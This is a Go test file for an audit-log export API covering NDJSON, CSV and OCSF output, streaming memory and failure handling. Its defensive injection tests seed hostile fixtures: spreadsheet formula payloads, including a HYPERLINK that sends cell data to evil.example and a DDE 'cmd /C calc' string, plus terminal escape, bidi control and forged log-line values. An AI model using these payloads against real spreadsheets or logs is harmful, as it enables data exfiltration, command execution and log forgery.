package api

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"reflect"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/trailmark/audit"
	"github.com/trailmark/audit/ocsf"
	"github.com/trailmark/audit/storekit"
	"github.com/trailmark/audit/storetest"
)

// exportQuery selects the seeded records and not the API's own events.
var exportQuery = "until=" + testNow.Add(-time.Hour).Format(time.RFC3339)

func wantExport(t *testing.T, e *env) []audit.Record {
	t.Helper()
	return storetest.QueryAll(t, e.store, audit.Filter{Until: testNow.Add(-time.Hour)})
}

// openExport starts an export and returns the response with its body
// unread.
func (e *env) openExport(query string) *http.Response {
	e.t.Helper()
	req, err := http.NewRequest(http.MethodGet, e.srv.URL+"/audit-logs/export?"+query, nil)
	if err != nil {
		e.t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer admin")
	resp, err := e.srv.Client().Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	e.t.Cleanup(func() { resp.Body.Close() })
	return resp
}

// checkExportHeaders checks the status and headers of a successful
// export: its Content-Type, and a file name with extension ext.
func checkExportHeaders(t *testing.T, resp *http.Response, contentType, ext string) {
	t.Helper()
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != contentType {
		t.Fatalf("status %d, Content-Type %q; want 200, %q", resp.StatusCode, resp.Header.Get("Content-Type"), contentType)
	}
	if cd, want := resp.Header.Get("Content-Disposition"), `attachment; filename="audit-logs-20260601T120000Z.`+ext+`"`; cd != want {
		t.Errorf("Content-Disposition %q, want %q", cd, want)
	}
}

// exportLines checks an export's headers and returns a scanner of its
// lines.
func exportLines(t *testing.T, resp *http.Response, contentType, ext string) *bufio.Scanner {
	t.Helper()
	checkExportHeaders(t, resp, contentType, ext)
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(nil, 1<<20)
	return sc
}

func TestExportNDJSON(t *testing.T) {
	t.Parallel()
	e := newEnv(t, storetest.Records(0, 10000))
	want := wantExport(t, e)
	resp := e.openExport(exportQuery)
	sc := exportLines(t, resp, "application/x-ndjson", "ndjson")
	n := 0
	for sc.Scan() {
		if n >= len(want) {
			t.Fatalf("line %d: more lines than the %d records", n+1, len(want))
		}
		line := sc.Bytes()
		checkAllFields(t, line)
		var got audit.Record
		if err := json.Unmarshal(line, &got); err != nil {
			t.Fatalf("line %d: %v", n+1, err)
		}
		if d := storetest.Equal(got, want[n]); d != "" || !got.RecordedAt.Equal(want[n].RecordedAt) {
			t.Fatalf("line %d: %s (recorded_at %v, want %v)", n+1, d, got.RecordedAt, want[n].RecordedAt)
		}
		n++
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if n != 10000 || len(want) != 10000 {
		t.Errorf("got %d lines, want %d", n, len(want))
	}
	checkExportEvents(t, e, "ndjson", 10000, audit.StatusSuccess)
	if d, _ := e.events(audit.Filter{Action: audit.ActionAuditLogExport})[1].DecodeDetails(); d["query"].(map[string]any)["until"] == nil {
		t.Errorf("start event details %v: want the filters", d)
	}
}

func TestExportCSV(t *testing.T) {
	t.Parallel()
	e := newEnv(t, storetest.Records(0, 10000))
	want := wantExport(t, e)
	resp := e.openExport(exportQuery + "&format=csv")
	checkExportHeaders(t, resp, "text/csv; charset=utf-8", "csv")
	cr := csv.NewReader(resp.Body)
	header, err := cr.Read()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(header, ",") != strings.Join(csvHeader(), ",") {
		t.Fatalf("header %v", header)
	}
	n := 0
	for ; ; n++ {
		row, err := cr.Read()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("row %d: %v", n+1, err)
		}
		if n >= len(want) {
			t.Fatalf("row %d: more rows than the %d records", n+1, len(want))
		}
		if d := compareRow(row, &want[n]); d != "" {
			t.Fatalf("row %d: %s", n+1, d)
		}
	}
	if n != 10000 {
		t.Errorf("got %d rows, want 10000", n)
	}
	checkExportEvents(t, e, "csv", 10000, audit.StatusSuccess)
}

// compareRow reports how a CSV row differs from r.
func compareRow(row []string, r *audit.Record) string {
	var got audit.Record
	var err error
	parse := func(s string) time.Time {
		t, perr := time.Parse(time.RFC3339Nano, s)
		if perr != nil {
			err = perr
		}
		return t
	}
	if len(row) != 19 {
		return fmt.Sprintf("%d cells", len(row))
	}
	got.ID, err = uuid.Parse(row[0])
	got.OccurredAt, got.RecordedAt = parse(row[1]), parse(row[2])
	got.UserID, got.UserEmail = row[3], row[4]
	if row[5] != "" {
		got.IPAddress = netip.MustParseAddr(row[5])
	}
	got.UserAgent, got.Action, got.ResourceType, got.ResourceID = row[6], audit.Action(row[7]), row[8], row[9]
	got.Details, got.Changes = json.RawMessage(row[10]), json.RawMessage(row[11])
	got.RequestID, got.SessionID, got.Status, got.ErrorMessage = row[12], row[13], audit.Status(row[14]), row[15]
	got.TenantID, got.TraceID, got.SpanID = row[16], row[17], row[18]
	if err != nil {
		return err.Error()
	}
	if d := storetest.Equal(got, *r); d != "" {
		return d
	}
	if !got.RecordedAt.Equal(r.RecordedAt) {
		return "recorded_at differs"
	}
	return ""
}

// checkExportEvents checks the start and end events of the one export.
func checkExportEvents(t *testing.T, e *env, format string, rows int, status audit.Status) {
	t.Helper()
	evs := e.events(audit.Filter{Action: audit.ActionAuditLogExport})
	if len(evs) != 2 {
		t.Fatalf("got %d export events, want 2", len(evs))
	}
	end, start := evs[0], evs[1]
	ds, _ := start.DecodeDetails()
	de, _ := end.DecodeDetails()
	if start.UserID != "admin" || start.Status != audit.StatusSuccess || ds["phase"] != "start" || ds["format"] != format {
		t.Errorf("start event %+v, details %v", start, ds)
	}
	if q, ok := ds["query"].(map[string]any); !ok || q["format"] != nil && q["format"] != format {
		t.Errorf("start event query %v: want the parameters", ds["query"])
	}
	if end.UserID != "admin" || end.Status != status || de["phase"] != "end" || de["rows"] != json.Number(fmt.Sprint(rows)) ||
		de["start_event_id"] != start.ID.String() || end.RequestID != start.RequestID || end.RequestID == "" {
		t.Errorf("end event %+v, details %v; want status %s, %d rows, linked to %s", end, de, status, rows, start.ID)
	}
}

func TestSafeCell(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\uFFFDx"},
		{"＝1+1", "'＝1+1"},
		{" =1+1", "' =1+1"},
		{"\n=1+1", "'\uFFFD=1+1"},
		{"\u00a0=1+1", "'\u00a0=1+1"},
		{"\u3000=1+1", "'\u3000=1+1"},
		{"\ufeff=1+1", "'\ufeff=1+1"},
		{"\u200b=1+1", "'\u200b=1+1"},
		{" \u200b\t@x", "' \u200b\t@x"},
		{"\x1b[2Jx", "\uFFFD[2Jx"},
		{"a\r\nb", "a\uFFFD\uFFFDb"},
		{"a\tb", "a\tb"},
		{"x\u009b31m", "x\uFFFD31m"},
		{"evil\u202egood", "evil\uFFFDgood"},
		{"a\u2066b\u2069", "a\uFFFDb\uFFFD"},
		{"a\u2028b", "a\uFFFDb"},
		{"a =1", "a =1"},
		{"a=1", "a=1"},
		{"'quoted", "'quoted"},
		{`{"a":"=1"}`, `{"a":"=1"}`},
	}
	for _, tt := range tests {
		if got := SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestExportCSVInjection exports hostile values and reads them back as a
// spreadsheet would see the cells.
func TestExportCSVInjection(t *testing.T) {
	t.Parallel()
	r := storetest.Record(0)
	r.UserID = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
	r.UserEmail = "@SUM(1+1)*cmd|' /C calc'!A0"
	r.UserAgent = "\t=1 +cmd"
	r.ResourceID = "-2+3"
	r.RequestID = "=1"
	r.SessionID = "+1"
	r.ErrorMessage = "＝1+1"
	r.ResourceType = "comma, \"quoted\""
	r.Action = "x;=HYPERLINK(\"http://evil.example\")"
	r.Details = json.RawMessage(`{"k": "=1", "n": [1, 2]}`) // as PostgreSQL's jsonb spaces it
	e := newEnv(t, []audit.Record{r})
	resp := e.openExport(exportQuery + "&format=csv")
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	// every cell is quoted: a semicolon inside a cell cannot start a new
	// cell, and with it a formula, where ';' separates columns
	if !bytes.Contains(body, []byte(`,"x;=HYPERLINK(""http://evil.example"")",`)) {
		t.Errorf("cell with a semicolon not quoted: %s", body)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("got %d rows, want header and 1", len(rows))
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) || strings.HasPrefix(cell, "＝") {
			t.Errorf("cell %s = %q starts a formula", csvHeader()[i], cell)
		}
	}
	row := rows[1]
	if row[3] != "'"+r.UserID || row[8] != "comma, \"quoted\"" || row[15] != "'"+r.ErrorMessage {
		t.Errorf("cells %q, %q, %q: want the values, quoted where dangerous", row[3], row[8], row[15])
	}
	if row[10] != `{"k":"=1","n":[1,2]}` {
		t.Errorf("details cell %q, want compact JSON", row[10])
	}
}

// TestExportControlCharacters exports values holding terminal and bidi
// controls and checks that neither export carries them raw, and that the
// NDJSON still decodes to the stored values. (Identities cannot hold
// control characters: every door refuses them.)
func TestExportControlCharacters(t *testing.T) {
	t.Parallel()
	r := storetest.Record(0)
	r.UserEmail = "u\u009b2J\x1b[31m"
	r.UserAgent = "evil\u202egood\u2066x\u2069\u200ey\u200fz\u061c"
	r.ErrorMessage = "line\r\nforged: ok"
	r.ResourceID = " =1+1"
	r.RequestID = "\u00a0=1+1"
	r.SessionID = "\ufeff@SUM(1)"
	r.Details = json.RawMessage("{\"k\": \"\u0085x\u202e\", \"e\": \"\\u001b\"}")
	e := newEnv(t, []audit.Record{r})
	for _, format := range []string{"ndjson", "csv"} {
		resp := e.openExport(exportQuery + "&format=" + format)
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		for _, bad := range []string{"\u009b", "\u0085", "\x1b", "\u202e", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c", "\r\nforged"} {
			if strings.Contains(string(body), bad) {
				t.Errorf("%s export carries %q raw: %q", format, bad, body)
			}
		}
		if format == "ndjson" {
			var got audit.Record
			if err := json.Unmarshal(bytes.TrimSpace(body), &got); err != nil {
				t.Fatal(err)
			}
			if d := storetest.Equal(got, r); d != "" {
				t.Errorf("NDJSON decodes to a different record: %s", d)
			}
			continue
		}
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("csv: %d rows, %v", len(rows), err)
		}
		row := rows[1]
		for i, want := range map[int]string{9: "' =1+1", 12: "'\u00a0=1+1", 13: "'\ufeff@SUM(1)", 15: "line\uFFFD\uFFFDforged: ok"} {
			if row[i] != want {
				t.Errorf("csv cell %s: got %q, want %q", csvHeader()[i], row[i], want)
			}
		}
	}
}

// pagedQuerier serves n synthetic records, newest first, page by page,
// without holding them: the nth record is made on demand. It fails the
// query for page failPage (counting from 1) if set, and notes the largest
// heap it saw.
type pagedQuerier struct {
	n        int
	failPage int
	details  json.RawMessage

	mu      sync.Mutex
	pages   int
	limits  map[int]int
	maxHeap uint64
	measure bool
}

var syntheticBase = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

func (q *pagedQuerier) record(i int) audit.Record {
	var id uuid.UUID
	id[0], id[1], id[2], id[3] = byte(i>>24), byte(i>>16), byte(i>>8), byte(i)
	return audit.Record{
		ID: id, OccurredAt: syntheticBase.Add(-time.Duration(i) * time.Microsecond), RecordedAt: syntheticBase,
		UserID: "user-" + fmt.Sprint(i%100), Action: audit.ActionResourceRead, ResourceType: "document",
		ResourceID: fmt.Sprint(i), Status: audit.StatusSuccess, Details: q.details,
		IPAddress: netip.AddrFrom4([4]byte{192, 0, 2, byte(i)}),
	}
}

func (q *pagedQuerier) Query(ctx context.Context, f audit.Filter) (audit.Page, error) {
	if err := f.Validate(); err != nil {
		return audit.Page{}, err
	}
	if err := ctx.Err(); err != nil {
		return audit.Page{}, err
	}
	q.mu.Lock()
	q.pages++
	page := q.pages
	if q.limits == nil {
		q.limits = map[int]int{}
	}
	q.limits[storekit.PageSize(&f)]++
	if q.measure {
		var ms runtime.MemStats
		runtime.ReadMemStats(&ms)
		q.maxHeap = max(q.maxHeap, ms.HeapAlloc)
	}
	q.mu.Unlock()
	if page == q.failPage {
		return audit.Page{}, errors.New("store went away")
	}
	from := 0
	if f.Cursor != "" {
		c, _ := storekit.DecodeCursor(f.Cursor)
		from = int(syntheticBase.Sub(c.OccurredAt)/time.Microsecond) + 1
	}
	var p audit.Page
	for i := from; i < q.n && len(p.Records) < storekit.PageSize(&f); i++ {
		p.Records = append(p.Records, q.record(i))
	}
	if from+len(p.Records) < q.n {
		p.NextCursor = storekit.CursorAfter(&p.Records[len(p.Records)-1]).String()
	}
	return p, nil
}

// lineCounter counts lines and keeps nothing.
type lineCounter struct{ lines, bytes int64 }

func (c *lineCounter) Write(p []byte) (int, error) {
	c.lines += int64(bytes.Count(p, []byte{'\n'}))
	c.bytes += int64(len(p))
	return len(p), nil
}

// TestExportConstantMemory streams a million records (fewer under the race
// detector) and checks that the heap stays small while it does: the export
// holds a page at a time, never the result.
func TestExportConstantMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("streams a million records")
	}
	n := 1_000_000
	if raceEnabled {
		n = 100_000
	}
	q := &pagedQuerier{n: n, details: json.RawMessage(`{"reason":"quarterly review","fields":["a","b","c"]}`)}
	e := newEnv(t, nil, func(c *setup) { c.Store = q })
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	base := ms.HeapAlloc
	q.mu.Lock()
	q.measure = true
	q.mu.Unlock()

	resp := e.openExport("")
	var c lineCounter
	if _, err := io.Copy(&c, resp.Body); err != nil {
		t.Fatal(err)
	}
	if c.lines != int64(n) {
		t.Errorf("got %d lines, want %d", c.lines, n)
	}
	q.mu.Lock()
	defer q.mu.Unlock()
	grew := int64(q.maxHeap) - int64(base)
	t.Logf("%d records, %d MiB streamed; heap grew by at most %.1f MiB over %d pages", n, c.bytes>>20, float64(grew)/(1<<20), q.pages)
	if grew > 64<<20 {
		t.Errorf("heap grew by %d MiB while streaming %d MiB: the export is buffering", grew>>20, c.bytes>>20)
	}
	if len(q.limits) != 1 || q.limits[audit.MaxLimit] == 0 {
		t.Errorf("page sizes %v, want all %d", q.limits, audit.MaxLimit)
	}
}

// TestExportStoreFailsMidStream checks that a store error after the first
// page breaks the transfer, so that the client cannot mistake a partial
// export for a complete one, and that the end event says so.
func TestExportStoreFailsMidStream(t *testing.T) {
	t.Parallel()
	q := &pagedQuerier{n: 5000, failPage: 3}
	e := newEnv(t, nil, func(c *setup) { c.Store = q })
	resp := e.openExport("format=csv")
	if resp.StatusCode != 200 {
		t.Fatalf("status %d", resp.StatusCode)
	}
	var c lineCounter
	_, err := io.Copy(&c, resp.Body)
	if err == nil {
		t.Fatalf("read %d lines and a clean end; want a broken transfer", c.lines)
	}
	if c.lines < 2*audit.MaxLimit {
		t.Errorf("got %d lines before the break, want the first two pages", c.lines)
	}
	checkExportEvents(t, e, "csv", 2*audit.MaxLimit, audit.StatusError)
	select {
	case err := <-e.errs:
		if !strings.Contains(err.Error(), "store went away") {
			t.Errorf("reported %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Error("nothing reported to OnError")
	}
}

// TestExportClientGoesAway checks that an export the client abandons stops
// and is recorded as such.
func TestExportClientGoesAway(t *testing.T) {
	t.Parallel()
	q := &pagedQuerier{n: 1 << 30}
	e := newEnv(t, nil, func(c *setup) { c.Store = q })
	ctx, cancel := context.WithCancel(context.Background())
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, e.srv.URL+"/audit-logs/export", nil)
	req.Header.Set("Authorization", "Bearer admin")
	resp, err := e.srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	br := bufio.NewReader(resp.Body)
	for range 10 {
		if _, err := br.ReadString('\n'); err != nil {
			t.Fatal(err)
		}
	}
	cancel()
	resp.Body.Close()
	// the end event is written when the handler notices; wait for it
	deadline := time.Now().Add(20 * time.Second)
	for {
		evs := e.events(audit.Filter{Action: audit.ActionAuditLogExport})
		if len(evs) == 2 {
			if evs[0].Status != audit.StatusFailure {
				t.Errorf("end event status %s (%s), want failure", evs[0].Status, evs[0].ErrorMessage)
			}
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("no end event after the client left; %d export events", len(evs))
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestExportHead(t *testing.T) {
	t.Parallel()
	e := newEnv(t, storetest.Records(0, 10))
	r := e.do(http.MethodHead, "admin", "/audit-logs/export?format=csv")
	if r.StatusCode != 200 || r.Header.Get("Content-Type") != "text/csv; charset=utf-8" || len(r.body) != 0 {
		t.Errorf("HEAD: %d %q %d bytes", r.StatusCode, r.Header.Get("Content-Type"), len(r.body))
	}
	// the HEAD is a read of the log, recorded like the others
	evs := e.events(audit.Filter{Action: audit.ActionAuditLogExport})
	if len(evs) != 1 {
		t.Fatalf("HEAD: %d export events recorded, want 1", len(evs))
	}
	var d map[string]any
	if err := json.Unmarshal(evs[0].Details, &d); err != nil {
		t.Fatal(err)
	}
	if evs[0].UserID == "" || d["phase"] != "head" || d["format"] != "csv" || evs[0].RequestID != r.Header.Get("X-Request-ID") {
		t.Errorf("HEAD recorded as user %q, details %s, request id %q; want the caller, phase head, format csv, request id %q",
			evs[0].UserID, evs[0].Details, evs[0].RequestID, r.Header.Get("X-Request-ID"))
	}
}

func ExampleSafeCell() {
	for _, v := range []string{"alice", "=HYPERLINK(\"http://evil.example\")", "-1", "a-b"} {
		fmt.Println(SafeCell(v))
	}
	// Output:
	// alice
	// '=HYPERLINK("http://evil.example")
	// '-1
	// a-b
}

// TestExportOCSF checks format=ocsf through real HTTP: NDJSON of the OCSF
// events package ocsf maps from the records, in the same order.
func TestExportOCSF(t *testing.T) {
	t.Parallel()
	e := newEnv(t, storetest.Records(0, 600))
	want := wantExport(t, e)
	resp := e.openExport("format=ocsf&" + exportQuery)
	sc := exportLines(t, resp, "application/x-ndjson", "ocsf.ndjson")
	n := 0
	var expect bytes.Buffer
	for sc.Scan() {
		if n >= len(want) {
			t.Fatalf("line %d: more lines than the %d records", n+1, len(want))
		}
		expect.Reset()
		if err := ocsf.NewEncoder(&expect, nil).Encode(&want[n]); err != nil {
			t.Fatal(err)
		}
		var got, exp map[string]any
		if err := json.Unmarshal(sc.Bytes(), &got); err != nil {
			t.Fatalf("line %d: %v", n+1, err)
		}
		if err := json.Unmarshal(expect.Bytes(), &exp); err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(got, exp) {
			t.Fatalf("line %d:\ngot  %s\nwant %s", n+1, sc.Bytes(), expect.Bytes())
		}
		if got["class_uid"] == nil || got["metadata"] == nil {
			t.Fatalf("line %d: no class_uid or metadata: %s", n+1, sc.Bytes())
		}
		n++
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if n != len(want) {
		t.Fatalf("got %d lines, want %d", n, len(want))
	}
	checkExportEvents(t, e, "ocsf", n, audit.StatusSuccess)
}
